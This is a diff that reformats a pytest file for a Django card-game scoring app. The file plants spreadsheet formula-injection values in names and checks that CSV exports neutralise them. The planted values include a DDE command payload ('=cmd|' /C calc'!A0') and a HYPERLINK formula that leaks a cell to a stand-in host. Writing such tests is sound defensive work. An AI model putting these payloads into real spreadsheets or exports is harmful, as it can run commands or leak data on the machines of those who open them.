@@ -24,7 +24,13 @@ pytestmark = pytest.mark.django_db
 
 ROOT = Path(__file__).resolve().parents[2]
 #: Names a person can type, each a formula in a spreadsheet.
-PLAYERS = ['=HYPERLINK("http://x.invalid/?"&A1,"Bấm")', "@SUM(1,1)", "+1+2", "-2+3 Bình", "=cmd|' /C calc'!A0"]
+PLAYERS = [
+    '=HYPERLINK("http://x.invalid/?"&A1,"Bấm")',
+    "@SUM(1,1)",
+    "+1+2",
+    "-2+3 Bình",
+    "=cmd|' /C calc'!A0",
+]
 TEAMS = ["=1+1", "@A1", "+Giáp", "-Xóm", "=Đông"]
 #: What a spreadsheet reads as the start of a formula (OWASP).
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
@@ -47,20 +53,38 @@ def exports(django_user_model: Any) -> dict[str, tuple[Client, str]]:
     staff = django_user_model.objects.create_user("staff-csv", password="mat-khau-dai-123", is_staff=True)
     club = club_create(name="@Làng Ngoài", slug="lang-csv").obj
     ClubRole.objects.create(user=organiser, club=club, role=ClubRoleKind.ORGANISER)
-    sitting = sitting_open(game="to-tom-5", rules="luat-2005", mode="quang", club=club, created_by=organiser,
-                           players=PLAYERS, title="=Canh 1").obj
+    sitting = sitting_open(
+        game="to-tom-5",
+        rules="luat-2005",
+        mode="quang",
+        club=club,
+        created_by=organiser,
+        players=PLAYERS,
+        title="=Canh 1",
+    ).obj
     for seq, winner in enumerate(PLAYERS[:3], start=1):
-        van_record(sitting=sitting, seq=seq, record={"winner": winner, "cuoc": ["tom"]}, idempotency_key=None,
-                   entered_by=organiser)
-    event = event_create(name="=Hội CSV", date=dt.date(2025, 2, 3), game="to-tom-5", rules="luat-2005",
-                         created_by=organiser)
+        van_record(
+            sitting=sitting,
+            seq=seq,
+            record={"winner": winner, "cuoc": ["tom"]},
+            idempotency_key=None,
+            entered_by=organiser,
+        )
+    event = event_create(
+        name="=Hội CSV", date=dt.date(2025, 2, 3), game="to-tom-5", rules="luat-2005", created_by=organiser
+    )
     for name, team in zip(PLAYERS, TEAMS, strict=True):
         check_in(registration=registration_add(event=event, name=name, team=team, by=organiser), by=organiser)
     round_seat(event=event, method="random", seed=3)
     table = Table.objects.filter(event=event).select_related("sitting").first()
     seats = [s.name for s in table.sitting.seats.order_by("position")]
-    event_van_record(table=table, seq=1, record={"winner": seats[0], "cuoc": ["tom"]}, idempotency_key=None,
-                     entered_by=organiser)
+    event_van_record(
+        table=table,
+        seq=1,
+        record={"winner": seats[0], "cuoc": ["tom"]},
+        idempotency_key=None,
+        entered_by=organiser,
+    )
     rebuild_leaderboard(event_id=event.pk)
     reg = Registration.objects.filter(event=event).order_by("id").first()
     org, adm = Client(), Client()
@@ -75,8 +99,10 @@ def exports(django_user_model: Any) -> dict[str, tuple[Client, str]]:
         "sitting statement": (org, reverse("scoring:report_statement_csv", args=[sitting.pk, 1])),
         "sitting audit": (org, reverse("scoring:sitting_audit", args=[sitting.pk]) + "?dinh-dang=csv"),
         "club audit": (org, reverse("scoring:club_audit", args=[club.slug]) + "?dinh-dang=csv"),
-        "club book statement": (org, reverse("scoring:club_statement_csv",
-                                             args=[club.slug, sitting.seats.get(position=1).player_id])),
+        "club book statement": (
+            org,
+            reverse("scoring:club_statement_csv", args=[club.slug, sitting.seats.get(position=1).player_id]),
+        ),
         "rule sets audit": (adm, reverse("scoring:rules_audit") + "?dinh-dang=csv"),
     }
 
@@ -91,14 +117,19 @@ def test_no_csv_cell_starts_a_formula(exports: dict[str, tuple[Client, str]], pr
     planted = [*PLAYERS, *TEAMS, "@Làng Ngoài", "=Canh 1", "=Hội CSV"]
     for what, (client, url) in exports.items():
         answer = client.get(url)
-        assert answer.status_code == 200 and answer["Content-Type"].startswith("text/csv"), (what, answer.status_code)
+        assert answer.status_code == 200 and answer["Content-Type"].startswith("text/csv"), (
+            what,
+            answer.status_code,
+        )
         cells = _cells(answer.content)
         if what != "rule sets audit":  # no rule set carries a planted name here; the header still counts
             assert any(p in cell for cell in cells for p in planted), f"{what}: no planted name in the CSV"
         for cell in cells:
             if any(p in cell for p in planted) or cell[:1] in FORMULA_START:
-                probe.check(cell[:1] not in FORMULA_START or bool(NUMBER.match(cell)),
-                            f"{what}: a cell a spreadsheet would run: {cell!r}")
+                probe.check(
+                    cell[:1] not in FORMULA_START or bool(NUMBER.match(cell)),
+                    f"{what}: a cell a spreadsheet would run: {cell!r}",
+                )
 
 
 def test_one_csv_writer_for_the_whole_project(probe: Any) -> None:
